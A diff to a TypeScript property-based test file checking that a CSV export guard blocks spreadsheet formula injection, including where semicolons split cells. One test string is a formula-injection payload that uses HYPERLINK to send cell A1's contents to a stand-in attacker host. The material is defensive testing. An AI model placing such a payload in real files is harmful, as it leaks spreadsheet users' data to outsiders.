@@ -19,7 +19,40 @@ const cell = fc.oneof(
 const parsed = (text: string): string[][] =>
   Papa.parse<string[]>(text, { newline: '\r\n', delimiter: ',' }).data.filter((row) => row.length > 1 || row[0] !== '');
 
+/** What begins a formula once a spreadsheet has skipped what it skips. */
+const FORMULA = /^["\s]*[=+\-@＝＋－＠]/;
+
+/** Cells as a spreadsheet finds them whose border is a semicolon: quotes count at the beginning of a cell alone. */
+function semicolonCells(text: string): string[] {
+  const cells: string[] = [];
+  for (let at = 0; at < text.length;) {
+    let cell = '';
+    if (text[at] === '"') {
+      for (at++; at < text.length && !(text[at] === '"' && text[at + 1] !== '"'); at++) {
+        cell += text[at];
+        if (text[at] === '"') at++;
+      }
+      at++;
+    }
+    for (; at < text.length && !/[;\r\n]/.test(text[at] ?? ''); at++) cell += text[at];
+    cells.push(cell);
+    at++;
+  }
+  return cells;
+}
+
 describe('a table for spreadsheets', () => {
+  it('holds no formula either where a semicolon is the border of cells', () => {
+    const evil = 'Mara;=HYPERLINK("https://evil.example/?"&A1)';
+    expect(semicolonCells(csvLines([['x:1', evil]]).replaceAll("'", ''))).toContainEqual(expect.stringMatching(FORMULA));
+    fc.assert(
+      fc.property(fc.array(fc.array(fc.oneof(cell, fc.constant(evil)), { minLength: 2, maxLength: 4 }), { minLength: 1, maxLength: 5 }), (rows) => {
+        for (const one of semicolonCells(csvLines(rows))) expect(one).not.toMatch(FORMULA);
+      }),
+      { numRuns: 500 },
+    );
+  });
+
   it('holds no cell that begins a formula, and every cell comes back as it was once its guard is off', () => {
     let cells = 0;
     fc.assert(
@@ -35,7 +68,8 @@ describe('a table for spreadsheets', () => {
   });
 
   it('takes off its own guard and no other apostrophe', () => {
-    for (const word of ["'", "''", "'=1", "''=1", "'a", '=1', '-', "'-'"]) expect(unguarded(guarded(word))).toBe(word);
+    for (const word of ["'", "''", "'=1", "''=1", "'a", '=1', '-', "'-'", 'a;=1', "a;'=1", 'a; "=1', ' =1', "' =1", '"=1', '\n=1', 'a;b', "a;'b"])
+      expect(unguarded(guarded(word))).toBe(word);
     expect(guarded('@mara')).toBe("'@mara");
     expect(guarded("'a")).toBe("'a");
   });
